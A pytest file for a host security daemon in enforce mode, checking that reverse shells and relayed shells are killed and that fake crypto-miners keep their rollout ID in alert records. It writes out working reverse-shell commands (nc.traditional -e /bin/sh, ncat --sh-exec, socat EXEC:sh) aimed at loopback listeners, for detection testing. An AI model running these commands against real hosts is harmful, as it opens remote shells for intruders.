"""Enforce mode against reverse shells, end to end as root: the kill
follows the offender's identity (pid, start time) across its own exec
(``nc.traditional -e /bin/sh`` becomes sh under the same pid), shells
behind a relay are stopped, and the attribution env keys survive a
process killed within milliseconds of its exec."""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import subprocess
from pathlib import Path

import pytest

from tests.conftest import require_root
from tests.fixtures.daemon import Daemon, daemon
from tests.fixtures.network import listener, wait_until, write_fake_miner
from tests.test_stdio_relay import RULE as RELAY_RULE
from tests.test_stdio_relay import _node, _pty_fork, in_tree

NC_TRADITIONAL = shutil.which("nc.traditional") or "/bin/nc.traditional"
KILL_HELD = ("killed", "already_exited")


@pytest.fixture(scope="module")
def enforcing():
    require_root()
    config = "rules: []\nattribution:\n  env_keys: [RG_ROLLOUT_ID]\n"
    with daemon(mode="enforce", config_text=config) as d:
        yield d


def responses(d: Daemon, pid: int) -> list[dict]:
    return d.alerts_for(lambda r: r.get("event") == "response" and pid in r["response"]["pids"])


def responses_to(d: Daemon, alert: dict) -> list[dict]:
    return d.alerts_for(lambda r: r.get("event") == "response" and r["alert_id"] == alert["id"])


def _wait_killed(proc: subprocess.Popen, timeout: float = 20) -> int:
    try:
        return proc.wait(timeout)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()


@pytest.mark.parametrize(
    ("argv", "host"),
    [
        ([NC_TRADITIONAL, "-e", "/bin/sh", "{host}", "{port}"], "127.0.33.1"),
        (["ncat", "--sh-exec", "sh -i", "{host}", "{port}"], "127.0.33.2"),
        (["socat", "TCP:{host}:{port}", "EXEC:sh"], "127.0.33.3"),
    ],
    ids=["nc.traditional-e", "ncat-sh-exec", "socat-exec"],
)
def test_netcat_family_shells_are_killed(enforcing: Daemon, argv: list[str], host: str) -> None:
    if argv[0] == NC_TRADITIONAL and not os.path.exists(NC_TRADITIONAL):
        pytest.fail("netcat-traditional is not installed (scripts/setup-host.sh installs it)")
    with listener(host, 0) as attacker:
        command = [a.format(host=host, port=attacker.port) for a in argv]
        proc = subprocess.Popen(command, stdin=subprocess.DEVNULL, start_new_session=True)
        status = _wait_killed(proc)
    assert status == -signal.SIGKILL
    alert = enforcing.wait_alert(
        lambda r: r.get("event") == "alert" and r["process"]["pid"] == proc.pid
    )
    assert alert["category"] == "reverse_shell" and alert["action"] == "kill"
    # our own daemon killed it: a foreign enforcing daemon on a shared host
    # may have been first (then ours found it gone), but never kill_failed
    outcomes = wait_until(lambda: [r["action"] for r in responses_to(enforcing, alert)])
    assert "kill_failed" not in outcomes and outcomes[-1] in KILL_HELD, outcomes


@pytest.mark.parametrize("spawn", [_node, _pty_fork], ids=["node-child_process", "python-pty.fork"])
def test_shell_behind_a_relay_is_stopped(enforcing: Daemon, tmp_path: Path, spawn) -> None:
    with listener("127.0.33.10", 0) as attacker:
        proc = spawn(tmp_path, attacker)
        try:
            alert = enforcing.wait_alert(in_tree(proc.pid), timeout=20)
            shell = alert["process"]["pid"]
            outcomes = wait_until(
                lambda: [r["action"] for r in responses_to(enforcing, alert)], timeout=20
            )
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert RELAY_RULE in {hit["rule"] for hit in alert["rules"]}
    assert outcomes[-1] in KILL_HELD, outcomes
    with contextlib.suppress(FileNotFoundError), open(f"/proc/{shell}/stat") as f:
        assert f.read().split()[2] in ("Z", "X")


# --- attribution that survives death ------------------------------------------------


def _records_of(d: Daemon, pid: int, event: str) -> list[dict]:
    return d.alerts_for(lambda r: r.get("event") == event and r["process"]["pid"] == pid)


def test_a_miner_killed_at_once_keeps_its_rollout_id(enforcing: Daemon, tmp_path: Path) -> None:
    """The miner dies within milliseconds (the kernel kills a denylisted
    binary at exec); the rollout id set by the sandbox that launched it is
    in its alert and kill records, marked as inherited from that sandbox."""
    miner = tmp_path / "xmrig"
    shutil.copy("/usr/bin/touch", miner)
    env = dict(os.environ, RG_ROLLOUT_ID="rollout-0017")
    sandbox = subprocess.Popen(
        ["sh", "-c", f"sleep 0.3; {miner} {tmp_path / 'ran'}; sleep 1"], env=env
    )
    sandbox.wait(30)
    alert = enforcing.wait_alert(
        lambda r: (
            r.get("event") == "alert"
            and r["process"]["comm"] == "xmrig"
            and r["process"]["ppid"] == sandbox.pid
        )
    )
    killed = wait_until(lambda: _records_of(enforcing, alert["process"]["pid"], "response"))
    for record in (alert, *killed):
        assert record["process"]["env"] == {"RG_ROLLOUT_ID": "rollout-0017"}
        assert record["process"]["env_inherited_from"] in (None, sandbox.pid)


def test_a_detected_miner_killed_in_user_space_keeps_its_rollout_id(
    enforcing: Daemon, tmp_path: Path
) -> None:
    with listener("127.0.33.20", 0, stratum=True) as pool:
        miner = write_fake_miner(str(tmp_path), "trainer-aux", linger_s=30)
        env = dict(os.environ, RG_ROLLOUT_ID="rollout-0018")
        proc = subprocess.Popen(
            [miner, "-o", f"stratum+tcp://127.0.33.20:{pool.port}", "-u", "w"], env=env
        )
        assert proc.wait(20) == -signal.SIGKILL
    alert = enforcing.wait_alert(
        lambda r: r.get("event") == "alert" and r["process"]["pid"] == proc.pid
    )
    killed = wait_until(lambda: _records_of(enforcing, proc.pid, "response"))
    for record in (alert, *killed):
        assert record["process"]["env"] == {"RG_ROLLOUT_ID": "rollout-0018"}
